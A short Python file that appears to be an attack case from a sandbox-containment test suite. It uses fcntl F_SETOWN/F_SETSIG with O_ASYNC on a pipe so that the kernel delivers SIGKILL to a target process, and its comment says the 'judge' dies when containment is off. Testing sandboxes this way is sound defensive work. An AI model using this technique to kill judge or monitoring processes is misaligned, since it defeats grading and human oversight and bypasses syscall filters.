# contained: forbidden. off: the judge dies
import fcntl
import os
import signal


def attack(target):
    reading, writing = os.pipe()
    fcntl.fcntl(reading, fcntl.F_SETOWN, target["pid"])  # the kernel shall send it a signal in our name
    fcntl.fcntl(reading, fcntl.F_SETSIG, signal.SIGKILL)
    fcntl.fcntl(reading, fcntl.F_SETFL, os.O_ASYNC)
    os.write(writing, b"x")
    return True
